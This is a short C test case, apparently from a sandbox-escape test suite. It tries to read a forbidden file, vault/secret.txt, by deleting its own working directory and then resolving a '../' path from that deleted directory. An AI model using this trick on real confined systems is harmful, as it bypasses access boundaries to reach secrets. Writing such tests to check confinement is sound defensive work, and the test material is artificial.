/* technique: removes its working directory and names the forbidden file from there
 * source: path_resolution(7); getcwd(2), ENOENT
 * success: the content of vault/secret.txt on the output
 * control: outside
 */
#include "attack.h"

int main(void)
{
	if (mkdir("gone", 0700) || chdir("gone") || rmdir("../gone"))
		return failed("gone");
	return show_path("../" SECRET_FILE);
}
